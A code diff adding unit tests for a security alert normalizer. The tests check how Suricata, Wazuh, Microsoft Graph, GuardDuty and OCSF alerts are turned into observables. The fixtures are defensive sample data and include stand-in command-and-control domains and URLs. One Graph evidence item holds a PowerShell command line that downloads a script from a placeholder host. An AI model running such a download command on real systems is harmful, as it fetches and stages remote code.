@@ -1,5 +1,7 @@
 import { readFileSync } from 'node:fs';
 import { describe, expect, it } from 'vitest';
+import { isSignificantUnder } from '../../app/ingest/correlation-rules.js';
+import { IngestSettings } from '../../app/ingest/ingest-settings.js';
 import { NormalizedAlertSchema } from '../../domain/alerts/alert.js';
 import { mapPayload } from './mapper-registry.js';
 
@@ -388,5 +390,212 @@ describe('generic and fallback mappers', () => {
     const r = map({ title: 'Disk wiper seen', severity: 'critical', src_ip: '45.33.32.156', id: 'z1' });
     expect(r.mapper).toBe('fallback');
     expect(r.alert).toMatchObject({ severity: 'critical', sourceEventId: 'z1' });
+  });
+});
+
+describe('reviewed vendor fields', () => {
+  const eve = {
+    timestamp: '2025-10-09T11:15:05.897792+0000',
+    flow_id: 1,
+    event_type: 'alert',
+    src_ip: '10.0.0.5',
+    dest_ip: '8.8.8.8',
+    alert: { gid: 1, signature_id: 2027863, signature: 'ET INFO DNS Query for .xyz', severity: 2 },
+  };
+
+  it('Suricata: the sensor name in `host` is no observable, so one sensor does not group its alerts', () => {
+    const significant = isSignificantUnder(IngestSettings.parse({}).correlation);
+    const [a, b] = [
+      { ...eve, host: 'ids-dmz-01', src_ip: '45.33.32.156', dest_ip: '10.0.0.5' },
+      { ...eve, flow_id: 2, host: 'ids-dmz-01', src_ip: '10.0.0.77', dest_ip: '203.0.113.9' },
+    ].map((p) =>
+      map(p)
+        .alert.observables.filter(significant)
+        .map((o) => `${o.type}:${o.value}`),
+    );
+    expect(obs(map({ ...eve, host: 'ids-dmz-01' })).some((o) => o.includes('ids-dmz-01'))).toBe(false);
+    expect(a?.filter((o) => b?.includes(o))).toEqual([]);
+  });
+
+  it('Suricata: DNS names of 8.x and 7.x records, and URLs from every request-target form', () => {
+    const dns = (d: unknown) => obs(map({ ...eve, dns: d })).filter((o) => o.includes(':domain:'));
+    expect(dns({ version: 3, type: 'request', queries: [{ rrname: 'evil-c2.xyz', rrtype: 'A' }] })).toEqual([
+      'destination:domain:evil-c2.xyz',
+    ]);
+    expect(dns({ query: [{ type: 'query', rrname: 'evil-c2.xyz' }] })).toEqual([
+      'destination:domain:evil-c2.xyz',
+    ]);
+    expect(dns({ type: 'query', rrname: 'evil-c2.xyz' })).toEqual(['destination:domain:evil-c2.xyz']);
+    const urls = (http: Record<string, unknown>) =>
+      obs(map({ ...eve, http: { hostname: 'evil.example.com', ...http } })).filter((o) =>
+        o.includes(':url:'),
+      );
+    expect(urls({ url: 'http://evil.example.com/payload.bin' })).toEqual([
+      'destination:url:http://evil.example.com/payload.bin',
+    ]);
+    expect(urls({ url: 'evil.example.com:443', http_method: 'CONNECT' })).toEqual([]);
+    expect(urls({ url: '/payload.bin', http_port: 8080 })).toEqual([
+      'destination:url:http://evil.example.com:8080/payload.bin',
+    ]);
+    expect(urls({ url: '/payload.bin', http_port: 80 })).toEqual([
+      'destination:url:http://evil.example.com/payload.bin',
+    ]);
+  });
+
+  it('Wazuh: for agent 000 (the manager collecting logs) the host is the one the log names', () => {
+    const alert = {
+      timestamp: '2024-03-01T10:00:00.000+0000',
+      rule: { level: 5, description: 'sshd: authentication failed.', id: '5716', groups: ['sshd'] },
+      agent: { id: '000', name: 'wazuh-manager' },
+      manager: { name: 'wazuh-manager' },
+      id: '1709287200.1',
+      predecoder: { program_name: 'sshd', hostname: 'web-07' },
+      data: { srcip: '198.51.100.23' },
+    };
+    const hosts = (p: unknown) => obs(map(p)).filter((o) => o.includes(':hostname:'));
+    expect(hosts(alert)).toEqual(['affected:hostname:web-07']);
+    // An agent's own alerts keep the agent's name; the manager's own alerts (no log host) keep its name.
+    expect(hosts({ ...alert, agent: { id: '001', name: 'db-01' } })).toEqual(['affected:hostname:db-01']);
+    expect(hosts({ ...alert, predecoder: { program_name: 'ossec' } })).toEqual([
+      'affected:hostname:wazuh-manager',
+    ]);
+  });
+
+  it('Microsoft Graph: evidence roles give observable roles; file and process fields are read', () => {
+    const r = map({
+      '@odata.type': '#microsoft.graph.security.alert',
+      id: 'da2',
+      title: 'Suspected brute-force attack',
+      severity: 'high',
+      serviceSource: 'microsoftDefenderForIdentity',
+      createdDateTime: '2021-04-27T12:19:27.7211305Z',
+      evidence: [
+        {
+          '@odata.type': '#microsoft.graph.security.ipEvidence',
+          roles: ['attacker', 'source'],
+          ipAddress: '45.33.32.156',
+        },
+        {
+          '@odata.type': '#microsoft.graph.security.userEvidence',
+          roles: ['compromised'],
+          userAccount: { accountName: 'bob', userPrincipalName: 'bob@contoso.com' },
+        },
+        {
+          '@odata.type': '#microsoft.graph.security.urlEvidence',
+          roles: ['commandAndControl'],
+          url: 'https://c2.example.net/b',
+        },
+        {
+          '@odata.type': '#microsoft.graph.security.ipEvidence',
+          roles: ['contextual'],
+          ipAddress: '81.2.69.160',
+        },
+        {
+          '@odata.type': '#microsoft.graph.security.fileEvidence',
+          roles: [],
+          fileDetails: {
+            md5: '44d88612fea8a8f36de82e1278abb02f',
+            fileName: 'eicar.com',
+            filePath: 'C:\\Users\\bob',
+          },
+        },
+        {
+          '@odata.type': '#microsoft.graph.security.processEvidence',
+          roles: [],
+          processCommandLine: 'powershell -c iwr https://dl.example.net/a.ps1',
+          imageFile: {
+            fileName: 'powershell.exe',
+            filePath: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0',
+            md5: 'd41d8cd98f00b204e9800998ecf8427e',
+          },
+          userAccount: { accountName: 'alice', domainName: 'CORP' },
+        },
+      ],
+    });
+    expect(obs(r)).toEqual([
+      'source:ipv4:45.33.32.156',
+      'affected:user:bob@contoso.com',
+      'destination:url:https://c2.example.net/b',
+      'related:ipv4:81.2.69.160',
+      'affected:md5:44d88612fea8a8f36de82e1278abb02f',
+      'affected:file_path:C:\\Users\\bob\\eicar.com',
+      'affected:process:powershell.exe',
+      'affected:md5:d41d8cd98f00b204e9800998ecf8427e',
+      'affected:file_path:C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
+      'affected:user:alice',
+      'related:url:https://dl.example.net/a.ps1',
+      'related:domain:dl.example.net',
+    ]);
+  });
+
+  it('GuardDuty: IPv6 remote addresses of every action that has remoteIpDetails', () => {
+    const finding = (action: Record<string, unknown>) =>
+      map({
+        schemaVersion: '2.0',
+        id: 'f1',
+        arn: 'arn:aws:guardduty:us-east-1:123456789012:detector/d1/finding/f1',
+        type: 'UnauthorizedAccess:IAMUser/MaliciousIPCaller',
+        resource: { resourceType: 'AccessKey' },
+        service: { serviceName: 'guardduty', action },
+        severity: 5,
+        updatedAt: '2024-05-01T09:10:00.000Z',
+      });
+    const v6 = { ipAddressV6: '2a01:4f8:c17:1234::1' };
+    const actions = [
+      { networkConnectionAction: { connectionDirection: 'INBOUND', remoteIpDetails: v6 } },
+      { awsApiCallAction: { api: 'ListBuckets', remoteIpDetails: v6 } },
+      { kubernetesApiCallAction: { requestUri: '/api', remoteIpDetails: v6 } },
+      { rdsLoginAttemptAction: { remoteIpDetails: v6 } },
+      { portProbeAction: { portProbeDetails: [{ localPortDetails: { port: 22 }, remoteIpDetails: v6 }] } },
+    ];
+    for (const action of actions) expect(obs(finding(action))).toEqual(['source:ipv6:2a01:4f8:c17:1234::1']);
+    expect(
+      obs(finding({ networkConnectionAction: { connectionDirection: 'OUTBOUND', remoteIpDetails: v6 } })),
+    ).toEqual(['destination:ipv6:2a01:4f8:c17:1234::1']);
+  });
+
+  it('OCSF: analytic and attacks at the top level of 2001, and sub-techniques in every class', () => {
+    const sf = map({
+      class_uid: 2001,
+      category_uid: 2,
+      severity_id: 4,
+      time: 1672758699558,
+      metadata: { version: '1.0.0', product: { name: 'Falco', vendor_name: 'Falcosecurity' } },
+      finding: { uid: 'f-1', title: 'Linux Kernel Module Injection Detected' },
+      analytic: { uid: 'rule-42', name: 'Kernel module injection', type_id: 1 },
+      attacks: [
+        { technique: { uid: 'T1547' }, sub_technique: { uid: 'T1547.006' }, tactics: [{ uid: 'TA0003' }] },
+      ],
+    });
+    expect(sf.alert).toMatchObject({
+      origin: { ruleId: 'rule-42', ruleName: 'Kernel module injection' },
+      techniques: ['T1547', 'T1547.006'],
+    });
+    const df = map({
+      class_uid: 2004,
+      severity_id: 4,
+      time: 1723564700000,
+      metadata: { version: '1.3.0', product: { name: 'X', vendor_name: 'Y' } },
+      finding_info: {
+        uid: 'd-1',
+        title: 'Spearphishing attachment',
+        analytic: { uid: 'a-1', name: 'phish' },
+        attacks: [{ technique: { uid: 'T1566' }, sub_technique: { uid: 'T1566.001' } }],
+      },
+    });
+    expect(df.alert).toMatchObject({ origin: { ruleId: 'a-1' }, techniques: ['T1566', 'T1566.001'] });
+  });
+
+  it('an IPv4-mapped IPv6 source is the same observable as that IPv4 address', () => {
+    const alert = (ip: string) =>
+      obs(
+        map({
+          '@timestamp': '2024-05-01T10:00:00Z',
+          'kibana.alert.rule.name': 'Brute force',
+          source: { ip },
+        }),
+      );
+    expect(alert('::ffff:45.33.32.156')).toEqual(alert('45.33.32.156'));
+    expect(alert('::ffff:2d21:209c')).toEqual(['source:ipv4:45.33.32.156']);
   });
 });
